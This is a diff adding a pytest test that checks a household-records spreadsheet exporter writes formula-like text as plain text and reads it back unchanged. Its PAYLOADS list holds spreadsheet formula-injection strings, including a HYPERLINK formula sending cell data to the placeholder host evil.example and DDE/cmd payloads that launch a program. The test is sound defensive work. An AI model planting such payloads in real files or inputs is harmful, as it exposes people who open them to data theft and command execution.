@@ -531,3 +531,47 @@ def test_huge_jpeg_is_judged_after_the_draft(tmp_path: Path, monkeypatch: pytest
     png = tmp_path / "huge.png"
     Image.new("1", (4000, 4000)).save(png)  # no draft for PNG: still a bomb
     assert isinstance(cache.assets(png, display_path=png.name)[0], Placeholder)
+
+
+# --------------------------------------------------------------------------- 10 formulas in exports
+
+PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=cmd|'/c calc'!A1", "+1+1", "-2+3",
+            "@SUM(1+1)", '=DDE("cmd";"/C calc";"!A0")', "＝1+1"]
+
+
+def test_export_writes_formula_like_text_as_text_and_reads_it_back(tmp_path: Path) -> None:
+    import yaml
+    from openpyxl import load_workbook
+
+    from archive_builder.spreadsheet import export_sheet, import_sheet
+
+    households = []
+    for serial, payload in enumerate(PAYLOADS):
+        record = valid_household(f"41162110520100{serial:02d}", serial=serial)
+        record["address"] = payload
+        record["members"][1]["name"] = payload
+        households.append(record)
+    data = write_data_dir(tmp_path / "data", households)
+    out = tmp_path / "export.xlsx"
+    export_sheet(data, out)
+    book = load_workbook(out)
+    cells = [c for row in book.active.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert {c.value for c in cells} >= set(PAYLOADS)
+    again = tmp_path / "again"
+    import datetime
+
+    report = import_sheet(out, again, today=datetime.date(2025, 6, 1))
+    assert len(report.created) == len(PAYLOADS), report.format_text()
+    got = {}
+    for path in again.rglob("household.yaml"):
+        record = yaml.safe_load(path.read_text("utf-8"))
+        got[record["household_id"]] = (record["address"], [m["name"] for m in record["members"]][1])
+    assert got == {h["household_id"]: (h["address"], h["address"]) for h in households}
+    second = tmp_path / "export2.xlsx"
+    export_sheet(again, second)
+    first_values = [[c.value for c in row] for row in load_workbook(out).active.iter_rows()]
+    second_values = [[c.value for c in row] for row in load_workbook(second).active.iter_rows()]
+    # the income ledger is not part of the sheet (人均纯收入 is computed, not imported)
+    keep = [i for i, h in enumerate(first_values[0]) if "收入" not in str(h)]
+    assert [[r[i] for i in keep] for r in first_values] == [[r[i] for i in keep] for r in second_values]
